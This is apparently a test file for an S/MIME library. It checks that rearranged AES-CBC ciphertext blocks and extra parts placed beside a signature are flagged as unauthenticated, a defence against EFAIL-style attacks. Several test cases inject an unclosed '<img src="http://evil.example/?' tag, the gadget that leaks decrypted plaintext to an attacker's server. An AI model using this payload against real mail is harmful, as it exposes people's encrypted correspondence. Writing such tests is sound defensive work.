// SPDX-License-Identifier: Apache-2.0
import fc from 'fast-check';
import { simpleParser } from 'mailparser';
import {
  encryptEntity,
  entityOf,
  signEntity,
  softwareSigner,
  softwareUnwrapper,
  UnopenableMessageError,
  type Layer,
  type MimeEntity,
} from '../index.ts';
import { everyReader, everySigner, type AnyReader, type AnySigner } from '../testing/any-message.ts';
import { ciphertextOf, withCiphertext } from '../testing/ciphertext.ts';
import { compressByHand, compressedEntity } from '../testing/compress-by-hand.ts';
import { bytesOf, openBytes } from '../testing/opening.ts';
import { opensslWorkshop, type OpensslWorkshop } from '../testing/openssl-workshop.ts';

/** RFC 3565: AES-CBC, in blocks of 16 octets. */
const BLOCK = 16;
const MAILS = 3_000;
const SECRET = 'The diagnosis is';
const CONTENT = Buffer.from(
  `Content-Type: multipart/mixed; boundary=in\r\n\r\n--in\r\nContent-Type: text/html\r\n\r\n<p>${SECRET}</p>\r\n` +
    `--in\r\nContent-Type: text/plain\r\n\r\n${SECRET}\r\n--in--\r\n`,
);
const signingTime = new Date('2026-03-01T10:20:30Z');
const HEADER = Buffer.from(
  'From: aske@a.example\r\nMIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\n',
);

let workshop: OpensslWorkshop;
let signer: AnySigner;
let reader: AnyReader;
beforeAll(async () => {
  workshop = await opensslWorkshop();
  signer = (await everySigner(workshop)).find(({ algorithm }) => algorithm.startsWith('ecdsa'))!;
  reader = everyReader().find(({ keyEncryption }) => keyEncryption === 'ecdh-sha256')!;
});
afterAll(() => workshop.close());

const signed = async (form: 'detached' | 'opaque', content: Buffer) =>
  bytesOf(await signEntity(entityOf(content), softwareSigner(signer), { signingTime, form }));
const introduced = async (content: Buffer) =>
  Buffer.from(
    (await signed('detached', content))
      .toString('latin1')
      .replace('\r\n\r\n--', '\r\n\r\nThis is a cryptographically signed message in MIME format.\r\n\r\n--'),
    'latin1',
  );
const binary = (entity: MimeEntity) =>
  bytesOf(entity).then((bytes) =>
    Buffer.from(bytes.toString('latin1').split('\r\n\r\n').slice(1).join('\r\n\r\n'), 'base64'),
  );

async function opened(
  cms: Buffer,
  keepSigned: boolean,
): Promise<{ kept: Buffer; layers: readonly Layer[] } | null> {
  try {
    const unwrappers = [softwareUnwrapper(reader)];
    return await openBytes(Buffer.concat([HEADER, cms]), { unwrappers, keepSigned });
  } catch (error) {
    if (error instanceof UnopenableMessageError) return null;
    throw error;
  }
}

const isDoubted = (layers: readonly Layer[]) =>
  layers[0]?.problems.includes('unauthenticated-encryption') === true;

/** What a program shows of it, or saves. */
async function shown(entity: Buffer) {
  const { text, html, attachments } = await simpleParser(
    Buffer.concat([Buffer.from('MIME-Version: 1.0\r\n'), entity]),
  );
  return JSON.stringify([text, html, attachments.map(({ contentType }) => contentType)]);
}

const run = fc.record({ from: fc.nat(), blocks: fc.integer({ min: 1, max: 60 }) });
/** Most of them begin as the mail does: what does not is rarely signed. */
const rearranging = fc.record({
  start: fc.oneof({ weight: 3, arbitrary: fc.double({ min: 0.5, max: 1, noNaN: true }) }, fc.constant(0)),
  runs: fc.array(run, { maxLength: 3 }),
  end: fc.integer({ min: 2, max: 40 }),
});

/** The first part of it, then blocks from anywhere in it, and its end, which has the padding. */
function rearranged(
  ciphertext: Buffer,
  { start, runs, end }: typeof rearranging extends fc.Arbitrary<infer T> ? T : never,
) {
  const all = Math.floor(ciphertext.length / BLOCK);
  const blocks = (from: number, to: number) => ciphertext.subarray(from * BLOCK, to * BLOCK);
  return Buffer.concat([
    blocks(0, Math.floor(start * all)),
    ...runs.map((each) => blocks(each.from % all, (each.from % all) + each.blocks)),
    blocks(Math.max(0, all - end), all),
  ]);
}

const KINDS: [string, (content: Buffer) => Promise<Buffer>][] = [
  ['a detached signature', (content) => signed('detached', content)],
  ['a detached signature behind a sentence', introduced],
  ['an opaque signature', (content) => signed('opaque', content)],
  [
    'a signature in compression',
    async (content) => compressedEntity(compressByHand(await signed('detached', content))),
  ],
  ['compression in a signature', (content) => signed('opaque', compressedEntity(compressByHand(content)))],
  ['a signature in a signature', async (content) => signed('detached', await signed('detached', content))],
];

describe.each(KINDS)('%s in AES-CBC', (_, make) => {
  it.each([true, false])(
    'is doubted unless its reader gets what was signed, whatever blocks are moved or repeated (kept signed: %s)',
    async (keepSigned) => {
      const cms = await binary(
        await encryptEntity(entityOf(await make(CONTENT)), [reader], { contentEncryption: 'aes-256-cbc' }),
      );
      const ciphertext = ciphertextOf(cms);
      const honest = await opened(withCiphertext(cms, ciphertext), keepSigned);
      expect(isDoubted(honest!.layers)).toBe(false);
      const genuine = await shown(honest!.kept);
      expect(genuine).toContain(SECRET);
      const found = { doubted: 0, closed: 0 };
      const property = fc.asyncProperty(rearranging, async (how) => {
        const mail = await opened(withCiphertext(cms, rearranged(ciphertext, how)), keepSigned);
        if (mail === null) found.closed += 1;
        else if (isDoubted(mail.layers)) found.doubted += 1;
        else expect(await shown(mail.kept)).toBe(genuine);
      });
      await fc.assert(property, { numRuns: MAILS / KINDS.length });
      expect(found.doubted).toBeGreaterThan(MAILS / KINDS.length / 50);
    },
    60_000,
  );
});

describe('what stands beside the signature in AES-CBC', () => {
  const isSeenAs = async (change: (entity: string) => string) => {
    const entity = Buffer.from(change((await introduced(CONTENT)).toString('latin1')), 'latin1');
    const mail = await opened(
      await binary(await encryptEntity(entityOf(entity), [reader], { contentEncryption: 'aes-256-cbc' })),
      true,
    );
    const verified = mail!.layers.some(
      (layer) => layer.kind === 'signed' && layer.signatures.some((each) => each.verified),
    );
    return { verified, doubted: isDoubted(mail!.layers) };
  };
  const boundaryOf = (entity: string) => /boundary="([^"]+)"/.exec(entity)![1]!;
  const PART = 'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?';

  it.each<[string, (entity: string) => string]>([
    [
      'a third part',
      (it) => it.replace(`--${boundaryOf(it)}--`, `--${boundaryOf(it)}\r\n${PART}\r\n--${boundaryOf(it)}--`),
    ],
    ['no close-delimiter', (it) => it.replace(`--${boundaryOf(it)}--`, '')],
    ['a text behind it', (it) => `${it}\r\n${PART}`],
    ['markup before it', (it) => it.replace('This is', `<p>This is`)],
    ['octets that are no sentence before it', (it) => it.replace('This is', 'This\x9a is')],
    ['a long text before it', (it) => it.replace('This is', `This is ${'so '.repeat(400)}`)],
    [
      'a text before the base64',
      (it) => it.replace(/\r\n\r\nMI/, '\r\n\r\n<img src="http://evil.example/?">\r\nMI'),
    ],
    ['a text within the base64', (it) => it.replace(/\r\n\r\n(MI.*\r\n)/, '\r\n\r\n$1<!>')],
    ['a text behind the base64', (it) => it.replace(`\r\n--${boundaryOf(it)}--`, (end) => `\r\n<!>${end}`)],
    [
      'two dispositions of the signature',
      (it) => it.replace(/(Content-Type: application\/pkcs7-sig)/, 'Content-Disposition: inline\r\n$1'),
    ],
    [
      'an odd field of the signature',
      (it) => it.replace(/(Content-Type: application\/pkcs7-sig)/, 'X-Field: <img>\r\n$1'),
    ],
    ['an encoding of the multipart', (it) => `Content-Transfer-Encoding: base64\r\n${it}`],
  ])('%s: it verifies, and is doubted', async (_, change) => {
    expect(await isSeenAs(change)).toEqual({ verified: true, doubted: true });
  });

  it.each<[string, (entity: string) => string]>([
    ['nothing', (it) => it],
    ['empty lines behind it', (it) => `${it}\r\n\r\n`],
    ['an encoding that is none', (it) => `Content-Transfer-Encoding: 7bit\r\n${it}`],
    [
      'a name and a sentence of the signature',
      (it) =>
        it.replace(
          /(Content-Type: application\/pkcs7-sig)/,
          'Content-Description: S/MIME\r\nContent-ID: <a@b>\r\n$1',
        ),
    ],
  ])('%s: it is not', async (_, change) => {
    expect(await isSeenAs(change)).toEqual({ verified: true, doubted: false });
  });
});
